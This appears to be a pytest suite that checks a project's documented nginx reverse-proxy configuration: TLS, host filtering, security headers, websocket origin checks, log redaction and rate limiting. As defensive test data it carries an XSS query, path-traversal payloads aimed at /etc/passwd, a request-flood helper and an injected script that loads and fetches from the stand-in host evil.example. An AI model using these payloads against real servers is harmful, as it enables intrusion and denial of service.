"""The nginx of the manual before `lmmlab serve`: what it refuses, and who is served meanwhile.

The configuration is the file that the manual shows, with other ports, paths and certificate.
"""

import contextlib
import getpass
import http.client
import re
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from hands import drag, ready, slider, until, words
from lmmlab import app

pytestmark = pytest.mark.browser  # all of them share one proxy

MANUAL = Path(app.__file__).parent.parent / "docs" / "nginx.conf"
LESSON = "/voila/render/05-shrinkage.ipynb"
NO_LESSON = "/voila/render/none.ipynb"
SOCKET = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "bG1tbGFiLWxtbWxhYi1sbQ==",
}
V1 = {"Sec-WebSocket-Protocol": "v1.kernel.websocket.jupyter.org"}

# What is around a site's file on Debian.
AROUND = """
daemon off;
pid {folder}/pid;
error_log {folder}/error.log;
user {user};
events {{}}
http {{
    include /etc/nginx/mime.types;
    default_type application/octet-stream;
    gzip on;
    client_body_temp_path {folder}/body;
    proxy_temp_path {folder}/proxy;
    fastcgi_temp_path {folder}/fastcgi;
    uwsgi_temp_path {folder}/uwsgi;
    scgi_temp_path {folder}/scgi;
    include {site};
}}
"""


@pytest.fixture(scope="module")
def site(program, start_server, free_port, tmp_path_factory):
    """The lessons behind nginx: `url`, `port`, `plain` (the port without TLS), `trust`, `log`."""
    nginx, openssl = program("nginx"), program("openssl")
    folder = tmp_path_factory.mktemp("nginx")
    server, plain, port = free_port(), free_port(), free_port()
    certificate, key = folder / "certificate.pem", folder / "key.pem"
    made = "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=localhost"
    made += f" -addext subjectAltName=DNS:localhost -out {certificate} -keyout {key}"
    subprocess.run([openssl, *made.split()], check=True, capture_output=True)

    text = re.sub(r".*listen \[::\].*\n", "", MANUAL.read_text("utf-8"))
    for old, new in {
        "listen 80": f"listen 127.0.0.1:{plain}",
        "listen 443": f"listen 127.0.0.1:{port}",
        "lessons.example.org;": "localhost;",
        "/etc/letsencrypt/live/lessons.example.org/fullchain.pem": certificate,
        "/etc/letsencrypt/live/lessons.example.org/privkey.pem": key,
        "/var/lib/nginx/lmmlab": folder / "cache",
        "/var/log/nginx/lmmlab.log": folder / "access.log",
        "127.0.0.1:8866": f"127.0.0.1:{server}",
    }.items():
        assert old in text
        text = text.replace(old, str(new))
    (folder / "site").write_text(text)
    around = AROUND.format(folder=folder, user=getpass.getuser(), site=folder / "site")
    (folder / "nginx.conf").write_text(around)

    command = [sys.executable, "-m", "lmmlab.app", "serve", "--no-browser", "--name=localhost"]
    start_server([*command, f"--port={server}"], f"http://127.0.0.1:{server}/")
    command = [nginx, "-p", folder, "-c", folder / "nginx.conf", "-e", folder / "error.log"]
    start_server(command, f"http://127.0.0.1:{port}/")  # answers 400: that is no TLS
    return SimpleNamespace(
        url=f"https://localhost:{port}",
        port=port,
        plain=plain,
        trust=ssl.create_default_context(cafile=certificate),
        log=folder / "access.log",
    )


def ask(site, path="/", client="127.0.0.1", method="GET", **headers):
    """Status, headers and text of an answer to a client of some address."""
    line = http.client.HTTPSConnection(
        "localhost", site.port, timeout=30, context=site.trust, source_address=(client, 0)
    )
    with contextlib.closing(line):
        line.request(method, path, headers=headers)
        answer = line.getresponse()
        body = b"" if answer.status == 101 else answer.read()
        return SimpleNamespace(
            status=answer.status, headers=answer.headers, text=body.decode(errors="replace")
        )


@pytest.fixture(scope="module")
def lesson(site):
    """The page of a lesson that is not left, and so keeps its kernel."""
    return ask(site, LESSON)


@pytest.fixture(scope="module")
def channels(lesson):
    """The path of its kernel's websocket."""
    (kernel,) = re.findall(r'"kernelId": "([^"]+)"', lesson.text)
    return f"/api/kernels/{kernel}/channels"


def test_a_lesson_is_sent_with_headers_that_keep_others_out(lesson):
    assert lesson.status == 200
    assert "The lab is starting" in lesson.text
    (policy,) = (p for p in lesson.headers.get_all("Content-Security-Policy") if "script" in p)
    scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
    assert "unsafe" not in scripts
    assert "http:" not in policy.replace("https:", "") and "*" not in policy
    assert lesson.headers["X-Content-Type-Options"] == "nosniff"
    assert lesson.headers["Referrer-Policy"] == "same-origin"
    assert lesson.headers["Strict-Transport-Security"]
    assert lesson.headers["Server"] == "nginx"
    cookies = lesson.headers.get_all("Set-Cookie")
    assert cookies and all("secure" in cookie.lower() for cookie in cookies)


def test_without_tls_one_is_sent_to_where_it_is(site):
    with contextlib.closing(http.client.HTTPConnection("localhost", site.plain)) as line:
        line.request("GET", "/voila/render/x?y")
        answer = line.getresponse()
        assert answer.status == 301
        assert answer.headers["Location"] == "https://localhost/voila/render/x?y"


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1", "localhost.evil.example"])
def test_another_host_gets_no_answer(site, host):
    with pytest.raises(http.client.RemoteDisconnected):
        ask(site, Host=host)
    line = http.client.HTTPConnection("localhost", site.plain, timeout=10)
    with contextlib.closing(line), pytest.raises(http.client.RemoteDisconnected):
        line.request("GET", "/", headers={"Host": host})
        line.getresponse()


def test_who_names_no_host_gets_no_certificate(site):
    context = ssl._create_unverified_context()
    line = http.client.HTTPSConnection("127.0.0.1", site.port, timeout=10, context=context)
    with contextlib.closing(line), pytest.raises(ssl.SSLError):
        line.connect()


def test_what_the_server_compressed_is_kept_and_not_compressed_again(site):
    path = "/voila/static/voila.js"
    packed = ask(site, path, **{"Accept-Encoding": "gzip, deflate, br"})
    assert packed.headers.get_all("Content-Encoding") == ["gzip"]
    plain = ask(site, path)
    assert plain.headers["Content-Encoding"] is None
    assert "webpack" in plain.text
    assert ask(site, path, **{"Accept-Encoding": "gzip"}).text == packed.text


def test_the_log_keeps_no_token(site):
    ask(site, "/looked-for?token=secret")
    end = time.monotonic() + 10
    while "/looked-for" not in site.log.read_text():  # written after the answer
        assert time.monotonic() < end
        time.sleep(0.02)
    assert "secret" not in site.log.read_text()


def test_a_websocket_must_speak_version_1_and_come_from_our_pages(site, channels):
    assert ask(site, channels, **SOCKET).status == 400
    other = {"Sec-WebSocket-Protocol": "xv1.kernel.websocket.jupyter.org"}
    assert ask(site, channels, **SOCKET, **other).status == 400
    assert ask(site, channels, **SOCKET, **V1, Origin="https://evil.example").status == 403
    answer = ask(site, channels, **SOCKET, **V1, Origin=site.url)
    assert answer.status == 101
    assert answer.headers["Sec-WebSocket-Protocol"] == V1["Sec-WebSocket-Protocol"]


@pytest.mark.parametrize("path", [NO_LESSON, "/voila/tree", "/"])
@pytest.mark.parametrize("query", ["theme", "template"])
def test_a_query_is_not_reflected_and_comes_to_an_end(site, path, query):
    answer = ask(site, f"{path}?{query}=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
    assert answer.status in (200, 404)
    assert "alert(1)" not in answer.text


@pytest.mark.parametrize(
    "path",
    [
        "/../../../../etc/passwd",
        "/voila/static/../../../../../../etc/passwd",
        "/voila/static/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/voila/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/voila/static//etc/passwd",
        "/voila/templates/lmmlab/static/../../../../../server.py",
        "/voila/labextensions/..%2f..%2f..%2fetc/passwd",
        "/voila/files/05-shrinkage.ipynb",
        "/voila/render/..%2f..%2fetc%2fpasswd",
        "/lmmlab/picture/..%2f..%2fserver.py",
        "/api/contents/05-shrinkage.ipynb",
        "/api/kernels",
        "/files/05-shrinkage.ipynb",
    ],
)
def test_paths_that_lead_outside_give_nothing(site, path):
    answer = ask(site, path)
    assert 400 <= answer.status < 500
    assert "root:" not in answer.text
    assert "LessonServer" not in answer.text
    assert '"cells"' not in answer.text


def test_a_large_body_is_refused(site):
    line = http.client.HTTPSConnection("localhost", site.port, timeout=30, context=site.trust)
    with contextlib.closing(line):
        line.request("POST", "/voila/api/shutdown/x", body=b"x" * 100_000)
        assert line.getresponse().status == 413


def flood(site, client, path, times, method="GET"):
    """How often each status was the answer to a client that does not wait for its answers."""
    statuses = []
    while len(statuses) < times:
        many = min(500, times - len(statuses))
        line = http.client.HTTPSConnection(
            "localhost", site.port, timeout=60, context=site.trust, source_address=(client, 0)
        )
        with contextlib.closing(line):
            line.connect()
            one = f"{method} {path} HTTP/1.1\r\nHost: localhost:{site.port}\r\n"
            last = f"{one}Connection: close\r\n\r\n"
            line.sock.sendall(f"{one}\r\n".encode() * (many - 1) + last.encode())
            with line.sock.makefile("rb") as answers:
                text = answers.read().decode(errors="replace")
        statuses += map(int, re.findall(r"HTTP/1\.1 (\d{3}) ", text))
    return {status: statuses.count(status) for status in sorted(set(statuses))}


def test_a_flood_is_refused_and_its_author_alone(site):
    pages = flood(site, "127.0.0.2", NO_LESSON, 60)
    assert set(pages) == {404, 429}
    assert 40 <= pages[404] <= 45  # those at once, and one every two seconds
    refused = ask(site, NO_LESSON, "127.0.0.2")
    assert refused.status == 429
    assert refused.text.startswith("Many pages were opened from your address.")
    assert refused.headers["Retry-After"] == "60"
    assert ask(site, "/", "127.0.0.2").status == 200
    assert ask(site, NO_LESSON, "127.0.0.3").status == 404


@pytest.fixture
def watched_page(site, chromium):
    """A page that accepts the certificate; `problems` are its errors, `elsewhere` what it asked
    of others."""
    context = chromium.new_context(ignore_https_errors=True)
    page = context.new_page()
    page.problems, page.elsewhere = [], []
    own = (site.url, site.url.replace("https", "wss"), "data:", "blob:")

    def note(url):
        if not url.startswith(own):
            page.elsewhere.append(url)

    page.on("console", lambda m: m.type == "error" and page.problems.append(m.text))
    page.on("pageerror", lambda error: page.problems.append(str(error)))
    page.on("request", lambda request: note(request.url))
    page.on("websocket", lambda socket: note(socket.url))
    yield page
    context.close()


def test_a_lesson_is_worked_on_during_a_flood_and_breaks_no_policy(site, watched_page):
    page, floods = watched_page, []
    page.goto(site.url)
    page.locator(".cards").first.wait_for()

    def attack():
        floods.append(flood(site, "127.0.0.4", NO_LESSON, 200))
        style = "/voila/templates/lmmlab/static/page.css"
        floods.append(flood(site, "127.0.0.4", style, 6000, "HEAD"))

    attacker = threading.Thread(target=attack)
    attacker.start()
    page.goto(site.url + LESSON)
    bench = ready(page)
    before = words(bench)
    assert drag(page, slider(bench, "tau1"), [0.3 + 0.02 * k for k in range(20)]) > 10
    until(page, lambda: words(bench), lambda now: now != before)
    attacker.join()
    assert [set(statuses) for statuses in floods] == [{404, 429}, {200, 429}]
    assert page.problems == []
    assert page.elsewhere == []

    # What the policy is for: a script that got in loads nothing and tells nobody.
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.src = "https://evil.example/script.js";
        document.head.append(script);
        fetch("https://evil.example/told").catch(() => {});
    }""")
    until(page, lambda: " ".join(page.problems), lambda text: "script-src" in text)
    until(page, lambda: " ".join(page.problems), lambda text: "connect-src" in text)
